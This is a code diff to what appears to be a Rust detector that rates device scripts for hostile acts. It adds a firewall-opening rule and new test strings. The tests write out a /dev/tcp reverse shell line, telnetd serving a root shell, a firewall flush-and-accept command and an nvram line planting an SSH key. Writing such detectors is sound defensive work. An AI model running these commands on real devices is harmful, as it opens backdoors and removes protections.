@@ -41,7 +41,7 @@ pub const CHECK: Check = Check {
 };
 
 /// What each thing weighs, in words, and in files of which names nobody is surprised.
-const WEIGHTS: [(Deed, Severity, &str, &[&[u8]]); 30] = [
+const WEIGHTS: [(Deed, Severity, &str, &[&[u8]]); 31] = [
     (Deed::GivesShell, Severity::Infected, "joins a shell to the network", &[]),
     (Deed::OpensConnection, Severity::Suspicious, "opens a connection to take orders from", &[]),
     (Deed::GivesProgram, Severity::Notice, "lets the network run a program", &[]),
@@ -52,6 +52,12 @@ const WEIGHTS: [(Deed, Severity, &str, &[&[u8]]); 30] = [
     (Deed::ClosesOwnersLast, Severity::Notice, "closes a management port", &[]),
     (Deed::OpensPort, Severity::Notice, "opens an odd port to everybody", &[]),
     (Deed::OpensToNetwork, Severity::Notice, "lets a public network in", &[]),
+    (
+        Deed::OpensAll,
+        Severity::Suspicious,
+        "removes all rules of the packet filter and lets everybody in",
+        FIREWALLS,
+    ),
     (Deed::Flushes, Severity::Notice, "removes all rules of the packet filter", FIREWALLS),
     (Deed::Redirects, Severity::Suspicious, "sends traffic on to a public address", &[]),
     (Deed::Relays, Severity::Infected, "relays a port of servers that command bots", &[]),
@@ -151,6 +157,10 @@ mod tests {
         for text in [
             &b"exec 5<>/dev/tcp/192.0.2.1/443"[..],
             b"telnetd -l /bin/sh -p 2323",
+            b"iptables -F; iptables -P INPUT ACCEPT",
+            b"iptables -A INPUT -p tcp --dport 23 -j DROP",
+            b"iptables -I INPUT -p udp --dport 9999 -j DROP",
+            b"nvram set sshd_authkeys='ssh-rsa AAAA'; nvram commit",
             b"start-stop-daemon -S -b -x /usr/sbin/telnetd -- -F -l /bin/ash",
             b"procd_set_param command /usr/sbin/telnetd -F -l /bin/sh",
             b"iptables -I INPUT -p tcp --dport 23 -j DROP",
